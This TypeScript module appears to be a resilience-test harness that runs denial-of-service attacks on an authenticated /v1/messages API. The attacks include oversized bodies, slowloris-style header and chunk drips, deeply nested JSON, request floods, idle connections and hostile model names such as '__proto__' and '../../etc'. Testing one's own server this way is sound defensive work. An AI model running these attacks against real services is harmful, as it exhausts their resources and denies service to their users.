/** Attacks of one hostile caller with a valid token. */
import { createConnection, type Socket } from 'node:net';

const MIB = 1024 * 1024;
const BODY_BYTES = 32 * MIB;
const DEPTH = BODY_BYTES / 2 - 1000;

export interface Attack {
  /** Its responses, by status; 0 for connections that were closed without a response. */
  readonly statuses: ReadonlyMap<number, number>;
  stop(): void;
}

interface Aim {
  readonly url: string;
  readonly token: string;
  readonly model: string;
}

/** One connection of an attack: its first bytes, and the rest of its script. */
interface Step {
  readonly head: string;
  readonly body?: Buffer;
  /** Sends this again and again, one at a time, in milliseconds. */
  readonly drip?: { readonly text: string; readonly every_ms: number };
  /** How long the connection is kept, in milliseconds; by default until its response. */
  readonly keep_ms?: number;
}

function head({ token }: Aim, more: string): string {
  return `POST /v1/messages HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\n${more}\r\n`;
}

function complete(aim: Aim, body: Buffer): Step {
  return { head: head(aim, `content-length: ${body.length}\r\n`), body };
}

function nested(kind: 'lists' | 'objects' | 'keys', model: string): Buffer {
  const start = `{"model":"${model}","max_tokens":1,"messages":[],"x":`;
  if (kind === 'lists') return Buffer.from(`${start}${'['.repeat(DEPTH)}${']'.repeat(DEPTH)}}`);
  if (kind === 'objects') return Buffer.from(`${start}[${'{},'.repeat(DEPTH / 2)}{}]}`);
  const keys: string[] = [];
  for (let i = 0; i < BODY_BYTES / 16; i++) keys.push(`"k${i}":0`);
  return Buffer.from(`${start}{${keys.join(',')}}}`);
}

/** The attacks by name: the number of connections of each, and their script, over and over. */
function attacks(aim: Aim): Readonly<Record<string, { readonly connections: number; next(): Step }>> {
  const simple = Buffer.from(JSON.stringify({ model: aim.model, max_tokens: 512, messages: [] }));
  const trees = (['lists', 'objects', 'keys'] as const).map((kind) => complete(aim, nested(kind, aim.model)));
  const odd = ['\u001b[2J', 'a\nb', '\u202e', '\u0000', 'x'.repeat(100_000), '__proto__', '../../etc'].map((model) =>
    complete(aim, Buffer.from(JSON.stringify({ model, max_tokens: 1, messages: [] }))),
  );
  let turn = 0;
  return {
    bodies: {
      connections: 32,
      next: () => ({
        head: head(aim, `content-length: ${BODY_BYTES}\r\n`),
        body: Buffer.alloc(4 * MIB, 0x20),
        keep_ms: 5000,
      }),
    },
    drips: {
      connections: 50,
      next: () => ({
        head: head(aim, 'transfer-encoding: chunked\r\n'),
        drip: { text: '1\r\n \r\n', every_ms: 100 },
      }),
    },
    heads: {
      connections: 50,
      next: () => ({ head: 'POST /v1/messages HTTP/1.1\r\nx-slow: ', drip: { text: 'x', every_ms: 100 } }),
    },
    nesting: { connections: 2, next: () => trees[turn++ % trees.length]! },
    names: { connections: 4, next: () => odd[turn++ % odd.length]! },
    flood: { connections: 32, next: () => complete(aim, simple) },
    idle: { connections: 200, next: () => ({ head: '', keep_ms: 60_000 }) },
  };
}

export const ATTACKS = ['bodies', 'drips', 'heads', 'nesting', 'names', 'flood', 'idle'] as const;

/** Begins some attacks, each over connections of its own. */
export function attack(aim: Aim, names: readonly string[] = ATTACKS): Attack {
  const statuses = new Map<number, number>();
  const open = new Set<Socket>();
  let stopped = false;
  const known = attacks(aim);
  const { hostname, port } = new URL(aim.url);

  function run(next: () => Step): void {
    if (stopped) return;
    const step = next();
    const socket = createConnection({ host: hostname, port: Number(port) });
    open.add(socket);
    let status = 0;
    const timers: NodeJS.Timeout[] = [];
    socket.on('error', () => {});
    socket.on('data', (bytes) => {
      status ||= Number(bytes.toString('latin1', 9, 12));
      if (step.keep_ms === undefined || status !== 200) socket.destroySoon();
    });
    socket.on('close', () => {
      open.delete(socket);
      for (const timer of timers) clearInterval(timer);
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
      setTimeout(() => run(next), 5);
    });
    socket.write(step.head);
    if (step.body !== undefined) socket.write(step.body);
    const { drip, keep_ms } = step;
    if (drip !== undefined) timers.push(setInterval(() => socket.write(drip.text), drip.every_ms));
    if (keep_ms !== undefined) timers.push(setInterval(() => socket.destroy(), keep_ms));
  }

  for (const name of names) for (let i = 0; i < known[name]!.connections; i++) run(known[name]!.next);
  return {
    statuses,
    stop() {
      stopped = true;
      for (const socket of open) socket.destroy();
    },
  };
}
